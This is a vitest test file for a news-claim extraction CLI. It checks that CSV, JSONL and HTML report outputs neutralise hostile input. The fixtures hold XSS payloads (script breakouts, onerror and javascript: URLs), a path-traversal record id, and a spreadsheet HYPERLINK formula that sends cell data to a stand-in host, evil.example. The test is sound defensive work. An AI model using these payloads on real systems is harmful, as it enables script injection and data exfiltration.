import { createHash } from 'node:crypto'
import { readdirSync, readFileSync } from 'node:fs'
import path from 'node:path'
import { expect, it, vi } from 'vitest'
import { broadsheet, readRows } from '../support/cli.ts'
import { tempFolder } from '../support/temp-folder.ts'

// The program is started twice, and a busy machine is slow to load it.
vi.setConfig({ testTimeout: 120_000 })

const TITLE = '</script><script>alert(1)</script><img src=x onerror=alert(2)>\u2028<!-- <script'
const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"公报")'

/** What a page may hold that wants to be more than text, through the whole program to the files people open. */
it('what a hostile page holds is text in every file', () => {
  const text = `${TITLE}\n\n　　${FORMULA}的产值为7亿元，同比增长12.5%。海湾市市长林木森表示：“@SUM(A1)，=1+1，全年投资3.5亿元。”\n`
  const record = { id: '../../=cmd', date: '2031-01-01', publication: '@海湾报', url: 'javascript:alert(3)', text }
  const folder = tempFolder({
    'in/lines.jsonl': `${JSON.stringify(record)}\n`,
    'in/=1+1.txt': text,
    'in/page.html': `<title>x</title><body onload="alert(4)"><script>document.write('脚本写的')</script><h1>海湾公报</h1><p>海湾市的新厂昨天投产，<a href="javascript:alert(5)">第一批产品</a>已经装船，年产值预计达到3.5亿元。</p></body>`,
  })
  const run = broadsheet(['run', 'in', '-o', 'out', '--quiet'], { cwd: folder })
  expect(run.status, run.stderr).toBe(0)
  const files = ['claims.csv', 'quotes.csv', 'speakers.csv', 'claim-checks.csv', 'repairs.csv']
  for (const file of files) {
    const cells = cellsOf(readFileSync(path.join(folder, 'out', file), 'utf8'))
    expect(cells.filter((cell) => /^[=+@\t\r]/.test(cell) || /^-(?!\d)/.test(cell))).toEqual([])
  }
  expect(readFileSync(path.join(folder, 'out/claims.csv'), 'utf8')).toContain("'@海湾报")
  const texts = readRows(folder, 'out/articles.jsonl').map((row) => JSON.stringify(row))
  expect(texts.some((article) => article.includes('脚本写的') || article.includes('alert(5)'))).toBe(false)
  expect(texts.some((article) => article.includes('第一批产品'))).toBe(true)

  expect(readdirSync(folder).sort()).toEqual(['in', 'out'])

  const report = broadsheet(['report', 'out', '-o', 'report.html'], { cwd: folder })
  expect(report.status, report.stderr).toBe(0)
  const page = readFileSync(path.join(folder, 'report.html'), 'utf8')
  const data = [...page.matchAll(/<script type="application\/json" id="[\w-]+">(.*?)<\/script>/gs)].map(
    ([, json]) => json ?? '',
  )
  expect(data.length).toBeGreaterThan(3)
  for (const json of data) {
    expect(json).not.toMatch(/[<>&\u2028\u2029]/)
    expect(() => JSON.parse(json)).not.toThrow()
  }
  expect(data.join()).toContain('alert(1)')
  // One script runs, and it is the one that the page's own policy names.
  const scripts = [...page.matchAll(/<script>(.*?)<\/script>/gs)].map(([, script]) => script ?? '')
  expect(scripts).toHaveLength(1)
  const hash = createHash('sha256')
    .update(scripts[0] ?? '')
    .digest('base64')
  expect(page).toContain(`script-src 'sha256-${hash}'`)
  expect(page.replace(/<script.*?<\/script>/gs, '')).not.toMatch(/<img|onerror|javascript:|evil\.example/)
})

/** Cells of a CSV file, quotation marks taken away. */
function cellsOf(csv: string): string[] {
  const cells = csv.replace(/^\uFEFF/, '').match(/(?:"(?:[^"]|"")*"|[^,\r\n]*)(?=,|\r\n|$)/g) ?? []
  return cells.map((cell) => (cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell))
}
